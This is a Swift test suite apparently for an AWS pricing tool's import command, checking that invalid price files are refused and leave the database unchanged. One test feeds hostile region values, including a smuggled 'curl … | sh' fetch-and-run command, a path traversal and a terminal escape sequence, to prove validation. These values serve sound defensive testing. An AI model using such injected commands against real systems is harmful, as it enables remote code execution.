import Foundation
import TacoApp
import TacoCore
import TacoReport
import TestSupport
import Testing

/// `pricing import` refuses hostile price files in process: a clear message, exit 2, and the database exactly as it
/// was (the sqlite3 shell's `.dump` compared before and after).
@Suite struct PricingImportUseCaseTests {
    /// The whole database as SQL text (`sqlite3 .dump`): equal before and after means nothing changed.
    static func dump(_ run: AppRun) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/sqlite3")
        process.arguments = [run.db, ".dump"]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return String(decoding: data, as: UTF8.self)
    }

    /// A fresh scratch database with the bundled price book loaded (`pricing list`), and its dump.
    static func initialised() throws -> (AppRun, String) {
        let run = try AppRun()
        _ = try PricingListUseCase.run(db: run.db, asOf: nil, staleAfterDays: 365, context: run.context)
        return (run, try dump(run))
    }

    /// `pricing import FILE`, which must fail with exit 2: its lines, joined.
    static func importRefused(_ run: AppRun, _ file: String, capturedOn: String? = nil) throws -> String {
        let request = PricingImportUseCase.Request(
            files: [file], format: nil, includeDynamoDBExtras: false, capturedOn: capturedOn.flatMap(Day.init(iso:)),
            acceptPartial: false)
        do {
            let outcome = try PricingImportUseCase.run(request, db: run.db, progress: nil, context: run.context)
            Issue.record("\(file) was imported: \(outcome.files)")
            return ""
        } catch {
            #expect(error.status == .invalidInput)
            return error.lines.joined(separator: "\n")
        }
    }

    // MARK: - Spot Advisor and price files: wrong successes

    static func spotAdvisor(_ entries: String) -> String {
        """
        {"ranges": [{"index": 0, "label": "<5%", "max": 5}, {"index": 1, "label": "5-10%", "max": 11}, \
        {"index": 2, "label": "10-15%", "max": 16}, {"index": 3, "label": "15-20%", "max": 22}, \
        {"index": 4, "label": ">20%", "max": 100}], "instance_types": {}, "spot_advisor": \
        {"us-west-2": {"Linux": {\(entries)}}}}
        """
    }

    @Test(arguments: [
        ("{\"s\": 200, \"r\": 0}", "Spot savings are outside 0–99 %", "'200'"),
        ("{\"s\": 100, \"r\": 0}", "Spot savings are outside 0–99 %", "'100'"),
        ("{\"s\": -50, \"r\": 0}", "Spot savings are outside 0–99 %", "'-50'"),
        ("{\"s\": 60, \"r\": 7}", "Spot interruption bucket is not one AWS publishes (0–4)", "'7'"),
    ])
    func spotAdvisorOutsideItsRangesIsRefused(_ entry: String, _ reason: String, _ example: String) throws {
        let (run, before) = try Self.initialised()
        // c7g.xlarge at 58 % / bucket 0 is valid; c7g.large carries the hostile entry.
        let file = try run.write(
            "spot-advisor-data.json", Self.spotAdvisor("\"c7g.large\": \(entry), \"c7g.xlarge\": {\"s\": 58, \"r\": 0}")
        )
        let result = try Self.importRefused(run, file, capturedOn: "2025-09-12")
        #expect(result.contains(reason))
        #expect(result.contains("c7g.large in us-west-2: \(example)"))
        #expect(result.contains("Nothing was imported: the database is unchanged."))
        #expect(try Self.dump(run) == before)
    }

    @Test(arguments: [
        "../x", "us-east-1; curl https://example.invalid/x | sh #", "us-west-2\u{1B}]0;pwned\u{07}", "mars-north-1",
    ])
    func aPriceFileWithAnUnknownRegionCodeIsRefused(_ region: String) throws {
        let (run, before) = try Self.initialised()
        let file = try run.write("index.csv", PriceListFixture.csv([PriceListFixture.row(region: region)]))
        let result = try Self.importRefused(run, file)
        #expect(result.contains("1 region is not a known AWS Region code"))
        // The CLI prints the lines through SafeText.terminal: no control byte read from the file reaches the
        // terminal.
        #expect(PriceListFixture.noControlBytes(SafeText.terminal(result)))
        #expect(try Self.dump(run) == before)
    }

    @Test(arguments: [
        ("", "1 currency is not USD", "'(empty)'"),
        ("EUR", "1 currency is not USD", "'EUR'"),
    ])
    func aPriceWithoutUSDIsRefused(_ currency: String, _ reason: String, _ example: String) throws {
        let (run, before) = try Self.initialised()
        let file = try run.write("index.csv", PriceListFixture.csv([PriceListFixture.row(currency: currency)]))
        let result = try Self.importRefused(run, file)
        #expect(result.contains(reason))
        #expect(result.contains(example))
        #expect(try Self.dump(run) == before)
    }

    @Test(arguments: ["1900-01-01", "9999-12-31", "2005-12-31"])
    func anImplausibleEffectiveDateIsRefused(_ day: String) throws {
        let (run, before) = try Self.initialised()
        let file = try run.write("index.csv", PriceListFixture.csv([PriceListFixture.row(effective: day)]))
        let result = try Self.importRefused(run, file)
        #expect(result.contains("1 effective date is implausible (before 2006 or more than two years ahead)"))
        #expect(result.contains("c7g.large '\(day)'"))
        #expect(try Self.dump(run) == before)
    }
}
